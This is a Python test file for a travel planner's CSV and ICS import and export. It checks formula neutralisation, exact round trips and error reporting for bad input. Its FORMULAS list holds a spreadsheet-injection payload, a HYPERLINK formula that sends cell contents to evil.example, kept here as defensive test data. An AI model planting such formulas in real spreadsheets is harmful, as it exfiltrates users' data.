"""Calendar and spreadsheet exchange: formulas neutralised, bad input reported, not guessed."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from planner.core.model import Itinerary, Stay, Traveller
from planner.storage import ItineraryError
from planner.storage.csv_io import itinerary_to_csv, parse_csv
from planner.storage.ics import itinerary_to_ics, parse_ics

D = dt.date
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+1+2", "-2+3", "@SUM(A1)",
            "\tTAB", "\rCR", "=1+1"]


def trip(note: str = "", ground: str = "") -> Itinerary:
    return Itinerary(Traveller("Anna", "RU"),
                     (Stay("KZ", D(2023, 2, 1), D(2023, 3, 1), note=note, ground=ground),))


def cells(data: bytes) -> list[list[str]]:
    """The cells as a spreadsheet program reads them (Python's csv, no unquoting of ')."""
    import csv
    import io

    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_export_neutralises_formulas(text: str) -> None:
    row = cells(itinerary_to_csv(trip(note=text, ground=text)))[1]
    note, ground = row[4], row[5]
    assert note == "'" + text and ground == "'" + text
    assert not note.startswith(("=", "+", "-", "@", "\t", "\r"))


@pytest.mark.parametrize("text", [*FORMULAS, "'70s trip", "''", "'=x", "plain", "", "'"])
def test_our_own_csv_round_trips_exactly(text: str) -> None:
    it = trip(note=text, ground=text)
    back = parse_csv(itinerary_to_csv(it)).stays
    assert [(s.note, s.ground) for s in back] == [(text, text)]


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\"ab,;\n x"), max_size=8))
def test_csv_round_trip_of_any_note(text: str) -> None:
    note = text.replace("\x00", "")
    back = parse_csv(itinerary_to_csv(trip(note=note))).stays
    assert [s.note for s in back] == [note]
    exported = cells(itinerary_to_csv(trip(note=note)))[1][4]
    assert not exported.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_a_quote_typed_in_a_spreadsheet_before_a_word_is_kept() -> None:
    data = b"country,entry,exit,note\r\nKZ,2023-02-01,2023-02-02,'70s trip\r\n"
    assert parse_csv(data).stays[0].note == "'70s trip"


def test_an_unterminated_csv_quote_is_refused() -> None:
    data = b'country,entry,exit,note\r\nKZ,2023-02-01,2023-02-02,"unterminated\r\n'
    with pytest.raises(ItineraryError, match="line 2: a quoted field is never closed"):
        parse_csv(data, "x.csv")


def test_quotes_that_close_are_not_taken_for_unterminated() -> None:
    data = (b'country,entry,exit,note\r\n'
            b'KZ,2023-02-01,2023-02-02,"a ""quoted"" word, and\r\na new line"\r\n'
            b'KZ,2023-03-01,2023-03-02,5" floppy\r\n')
    assert [s.note for s in parse_csv(data).stays] == [
        'a "quoted" word, and\r\na new line', '5" floppy']


def test_an_unknown_ics_status_is_reported_not_made_visa_free() -> None:
    data = itinerary_to_ics(trip()).replace(b"X-STAY-PLANNER-STATUS:visa-free",
                                            b"X-STAY-PLANNER-STATUS:diplomatic")
    preview = parse_ics(data, "x.ics")
    assert preview.events == []
    [problem] = preview.problems
    assert "status 'diplomatic' is not one of" in str(problem)


def test_import_reports_the_unknown_status_on_the_command_line(
        tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from planner.cli import main

    data = itinerary_to_ics(Itinerary(Traveller("Anna", "RU"), (
        Stay("KZ", D(2023, 2, 1), D(2023, 3, 1)), Stay("KG", D(2023, 3, 1), D(2023, 3, 5)))))
    src = tmp_path / "in.ics"
    src.write_bytes(data.replace(b"X-STAY-PLANNER-STATUS:visa-free", b"X-STAY-PLANNER-STATUS:x",
                                 1))
    status = main(["import", str(src), "-o", str(tmp_path / "out.stayplan")])
    err = capsys.readouterr().err
    assert status == 1 and "status 'x' is not one of" in err
